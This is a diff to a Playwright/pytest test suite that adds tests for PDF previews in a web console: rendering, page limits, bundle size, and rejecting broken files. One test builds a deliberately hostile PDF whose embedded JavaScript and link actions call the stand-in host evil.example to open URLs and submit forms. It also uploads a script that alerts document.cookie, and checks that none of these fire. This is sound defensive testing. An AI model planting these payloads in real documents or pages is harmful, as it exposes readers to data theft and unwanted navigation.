@@ -9,6 +9,7 @@ import subprocess
 
 import pytest
 from kernelgate import PROJECT, Gateway, wait_for
+from pdf_file import pdf_file
 from playwright.sync_api import expect
 
 BUILT = PROJECT / "build/console"
@@ -33,7 +34,11 @@ def put(gateway, session, path, content=b""):
 def test_the_page_is_small():
     files = [path for path in BUILT.rglob("*.gz") if path.name != "licenses.txt.gz"]
     assert {"index.html.gz", "frame.html.gz"} < {path.name for path in files}
-    assert sum(path.stat().st_size for path in files) <= 350_000
+    # What shows PDF files is loaded for the first one.
+    [pdf] = [path for path in files if path.name.startswith("pdf-")]
+    assert sum(path.stat().st_size for path in files) - pdf.stat().st_size <= 350_000
+    page = (BUILT / "index.html").read_text()
+    assert pdf.name.removesuffix(".gz") not in page
 
 
 def test_the_sources_have_no_type_errors(tmp_path):
@@ -577,3 +582,81 @@ def test_every_view_is_accessible(gateway, tab, sandbox, name, options):
     page.get_by_role("link", name="Connect").click()
     expect(page.get_by_role("heading", name="Connect")).to_be_visible()
     look("connect")
+
+
+# ---- PDF
+
+RED = "1 0 0 rg 0 0 200 100 re f"
+TEXT = "BT /F 24 Tf 20 40 Td (Hello) Tj ET"
+# The share of a canvas' points that are neither white nor transparent, in thousandths.
+INKED = """canvas => {
+    const {data} = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
+    let inked = 0;
+    for (let i = 0; i < data.length; i += 4)
+        inked += data[i + 3] > 0 && data[i] + data[i + 1] + data[i + 2] < 700;
+    return Math.round(4000 * inked / data.length);
+}"""
+
+
+def show_pdf(console, name):
+    """Returns the pages, when all are drawn."""
+    page = console.page
+    if page.locator(".preview").count():  # of another file
+        page.get_by_role("button", name="Close").click()
+    page.get_by_role("button", name=f"Preview {name}").click()
+    pages = page.locator(".preview canvas")
+    expect(pages.first).to_be_visible()
+    wait_for(lambda: all(pages.nth(i).evaluate(INKED) for i in range(pages.count())), 60)
+    return pages
+
+
+def test_a_pdf_file_is_shown(gateway, tab, sandbox):
+    put(gateway, sandbox, "two.pdf", pdf_file(RED, TEXT))
+    put(gateway, sandbox, "many.pdf", pdf_file(*[RED] * 25))
+    put(gateway, sandbox, "broken.pdf", b"%PDF-1.7\nnothing")
+    code = """
+import matplotlib.pyplot as plt
+plt.plot([1, 3, 2]); plt.title("a figure"); plt.savefig("figure.pdf")
+"""
+    assert gateway.execute(code, session_id=sandbox).status == "ok"
+    console = tab(viewport={"width": 1280, "height": 800})
+    console.enter(sandbox, "files")
+    assert not any("/pdf-" in url for url in console.requests())  # not before it is needed
+    pages = show_pdf(console, "two.pdf")
+    assert pages.count() == 2 and pages.nth(0).evaluate(INKED) == 1000
+    assert 1 <= pages.nth(1).evaluate(INKED) < 300
+    expect(console.page.get_by_role("img", name="two.pdf, page 2 of 2")).to_be_visible()
+    assert console.findings() == []
+    assert show_pdf(console, "figure.pdf").nth(0).evaluate(INKED) > 3
+    console.shoot("pdf")
+    assert show_pdf(console, "many.pdf").count() == 20
+    expect(console.page.get_by_text("These are the first 20 of 25 pages.")).to_be_visible()
+    console.page.get_by_role("button", name="Preview broken.pdf").click()
+    expect(console.page.get_by_text("This file cannot be shown")).to_be_visible()
+    console.page.get_by_role("button", name="Close").click()
+    assert console.findings() == []
+
+
+def test_a_hostile_pdf_file_does_nothing(gateway, tab, sandbox):
+    """Neither its scripts, nor its links and forms; and it learns nothing of its reader."""
+    script = "app.alert(1); app.launchURL('http://evil.example/', true); this.submitForm('http://evil.example/')"
+    action = (
+        f"<</S /JavaScript /JS ({script.replace('(', chr(92) + '(').replace(')', chr(92) + ')')})>>"
+    )
+    link = "<</S /URI /URI (http://evil.example/)>>"
+    put(gateway, sandbox, "hostile.pdf", pdf_file(
+        RED,
+        catalog=f"/OpenAction {action} /AA <</WC {action}>>",
+        annotations=f"<</Type /Annot /Subtype /Link /Rect [0 0 200 100] /A {link} /AA <</PO {action}>>>>",
+    ))  # fmt: skip
+    put(gateway, sandbox, "page.pdf", b"<script>alert(document.cookie)</script>")
+    console = tab()
+    page = console.page
+    dialogs = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    console.enter(sandbox, "files")
+    show_pdf(console, "hostile.pdf").nth(0).click()
+    page.get_by_role("button", name="Preview page.pdf").click()
+    expect(page.get_by_text("This file cannot be shown")).to_be_visible()
+    assert dialogs == [] and page.url.startswith(gateway.url) and len(page.context.pages) == 1
+    assert page.locator(".preview").get_by_role("link").count() == 0
